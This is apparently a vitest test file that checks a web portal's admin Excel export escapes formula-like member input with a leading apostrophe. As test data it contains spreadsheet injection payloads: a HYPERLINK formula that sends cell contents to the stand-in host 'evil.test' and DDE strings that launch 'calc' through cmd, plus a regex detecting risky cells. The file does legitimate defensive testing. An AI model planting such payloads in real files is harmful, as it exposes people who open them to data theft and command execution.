import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { startTestApi, type TestApi } from '../../test/harness.ts';

/**
 * The curator's Excel export (GET /admin/networking/curator/export) is written by the one spreadsheet writer
 * (server/core/excel.ts): what a member typed that a spreadsheet could take for a formula stays a text (issue 27,
 * defect 6). The member types it through the portal; the curator opens the file as Excel would (exceljs).
 */
describe('networking curator export: formula-like texts neutralised', () => {
  let api: TestApi;
  beforeAll(async () => {
    api = await startTestApi();
  });
  afterAll(() => api?.close());

  it("writes a member's =, +, -, @, tab and carriage-return texts with a leading apostrophe; phone-like texts and plain texts as typed", async () => {
    const student = await api.login('student');
    const profile = {
      company: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
      position: "+cmd|' /C calc'!A0",
      skills: "@SUM(1+1)*cmd|' /C calc'!A0",
      telegram: "-2+3+cmd|'/C calc'!A0",
    };
    expect((await api.call({ method: 'PUT', url: '/api/networking', token: student, payload: { status: 'local', ...profile } })).statusCode).toBe(200);
    const user = await api.call({ method: 'PUT', url: '/api/user', token: student, payload: { name: '\t=1+1', surname: '\r=2+2', phone: '+7 900 000-00-00' } });
    expect(user.statusCode).toBe(200);
    const me = (await api.call({ method: 'GET', url: '/api/networking', token: student })).json().data;

    const moderator = await api.login('moderator');
    const res = await api.call({ method: 'GET', url: '/admin/networking/curator/export?per_page=100', token: moderator, headers: { 'accept-language': 'en' } });
    expect(res.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as never);
    const sheet = book.worksheets[0];
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const row = sheet.getRows(2, sheet.rowCount - 1)?.find((r) => r.getCell(1).value === me.id);
    expect(row).toBeDefined();
    const cell = (title: string) => row?.getCell(header.indexOf(title) + 1);
    // every such cell is a plain text (no formula) that starts with the apostrophe
    for (const [title, typed] of [
      ['Company', profile.company],
      ['Position', profile.position],
      ['Skills', profile.skills],
      ['Telegram', profile.telegram],
      ['First name', '\t=1+1'],
      ['Last name', '\r=2+2'],
    ] as const) {
      // (XML keeps no carriage return: Excel reads it back as a line feed)
      expect([title, cell(title)?.type, cell(title)?.value]).toEqual([title, ExcelJS.ValueType.String, `'${typed}`.replace(/\r/g, '\n')]);
    }
    expect(cell('Phone')?.value).toBe('+7 900 000-00-00');
    // no cell of the file holds a formula or a text a spreadsheet would run
    const risky: string[] = [];
    sheet.eachRow((r) =>
      r.eachCell((c) => {
        if (c.type === ExcelJS.ValueType.Formula || (typeof c.value === 'string' && /^[=@\t\r]|^[+-](?![\d\s().,+-]*$)/.test(c.value))) risky.push(`${c.address}: ${String(c.value)}`);
      }),
    );
    expect(risky).toEqual([]);
  });
});
